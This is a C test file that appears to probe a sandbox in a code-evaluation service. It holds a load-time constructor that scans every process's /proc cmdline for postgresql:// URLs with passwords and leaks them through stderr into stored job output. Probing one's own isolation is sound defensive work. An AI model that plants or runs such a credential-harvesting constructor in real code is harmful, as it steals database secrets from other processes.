/*  Hostile, reading the cluster's command lines (issue 13, item 3): every
 *  /proc/PID/cmdline, for database URLs (a coordinator started with
 *  one), those with a password first. Caught when the test's own
 *  process's URL is in no output.
 *  It runs where code of a candidate's runs unconfined by the runner: in the
 *  evaluation child, as a CUDA or Level Zero candidate does (loaded into
 *  the judge; its constructors run at dlopen), or as a compiler does. The
 *  host backend's candidates run one process further in, under the
 *  runner's seccomp and Landlock, so the test loads this file as the job's
 *  reference: the same process, the same sandbox (kf_subproc.c). Its
 *  findings are its last line on stderr, which the worker stores. */
#define _GNU_SOURCE
#include "kf_kernel.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <time.h>
#include <unistd.h>

/* The test's parameter NAME from the job's payload (job.json in the
 * evaluation's folder, where the evaluation child runs): "" if none. */
static __attribute__ ((unused)) void
s_param (const char *name, char *out, size_t size)
{
    char text[65536], key[128];
    out[0] = 0;
    FILE *f = fopen ("job.json", "r");
    if (!f)
        return;
    size_t n = fread (text, 1, sizeof text - 1, f);
    fclose (f);
    text[n] = 0;
    snprintf (key, sizeof key, "\"%s\":", name);
    char *at = strstr (text, key);
    if (!at)
        return;
    at += strlen (key);
    while (*at == ' ' || *at == '"')
        at++;
    size_t k = 0;
    while (at[k] && at[k] != '"' && k + 1 < size) {
        out[k] = at[k];
        k++;
    }
    out[k] = 0;
}

/* Its last words: one line on stderr, which the worker keeps as the
 * job's error or crash detail (stored, and shown to the next prompt). */
static void
s_say (const char *what, const char *found)
{
    char line[1024];
    snprintf (line, sizeof line, "KFH %s: %s", what, found);
    for (char *c = line; *c; c++)
        if (*c == '\n' || *c == '\0' || (unsigned char) *c < 32)
            *c = ' ';
    fprintf (stderr, "%s\n", line);
    fflush (stderr);
    _exit (0);
}

int
kf_forward (const kf_tensor_t *in, int n_in, kf_tensor_t *out, int n_out,
            const kf_ctx_t *ctx)
{
    (void) in; (void) n_in; (void) out; (void) n_out; (void) ctx;
    return 1;
}

__attribute__ ((constructor)) static void
s_attack (void)
{
    char found[900] = "";
    /* Those with a password first: they are what is worth taking. */
    for (int pass = 0; pass < 2; pass++) {
        DIR *d = opendir ("/proc");
        struct dirent *e;
        while (d && (e = readdir (d)) != NULL) {
            char path[300], buf[4096];
            snprintf (path, sizeof path, "/proc/%s/cmdline", e->d_name);
            int fd = e->d_name[0] >= '1' && e->d_name[0] <= '9' ? open (path, O_RDONLY) : -1;
            ssize_t n = fd >= 0 ? read (fd, buf, sizeof buf - 1) : -1;
            if (fd >= 0)
                close (fd);
            if (n <= 0)
                continue;
            for (ssize_t i = 0; i < n; i++)
                if (!buf[i])
                    buf[i] = ' ';
            buf[n] = 0;
            char *url = strstr (buf, "postgresql://");
            char *end = url ? strchr (url, ' ') : NULL;
            if (end)
                *end = 0;
            if (url && (strchr (url, '@') != NULL) == (pass == 0)
                && strlen (found) + strlen (url) + 2 < sizeof found) {
                strcat (found, url);
                strcat (found, "; ");
            }
        }
        if (d)
            closedir (d);
    }
    s_say ("cmdline", found[0] ? found : "none seen");
}
